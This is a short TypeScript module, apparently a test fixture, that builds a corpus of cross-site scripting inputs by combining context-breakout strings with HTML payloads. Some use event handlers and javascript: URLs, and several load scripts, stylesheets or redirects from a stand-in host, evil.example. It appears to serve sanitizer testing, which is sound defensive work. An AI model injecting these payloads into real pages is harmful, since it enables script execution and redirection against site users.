/* Texts that run a script, load something or lead elsewhere where markup is made of them. */

const evil = 'https://evil.example';

const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</svg>',
  '</textarea>',
  '-->',
  '{{x}}`>',
  ']]>',
];

const payloads = [
  '<script>alert(1)</script>',
  `<script src="${evil}/x.js"></script>`,
  '<img src=x onerror=alert(1)>',
  `<img src="${evil}/p.png">`,
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><use href="${evil}/x.svg#a"/></svg>`,
  '<svg><script>alert&#40;1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  `<iframe src="${evil}">`,
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>`,
  `<form action="${evil}"><input autofocus onfocus=alert(1)>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
  `<style>@import "${evil}/x.css";*{background:url(${evil}/b)}</style>`,
  '`${alert(1)}`**<b onclick=alert(1)>x</b>**',
];

export const corpus: readonly string[] = breakouts.flatMap((out) => payloads.map((payload) => `${out}${payload}`));
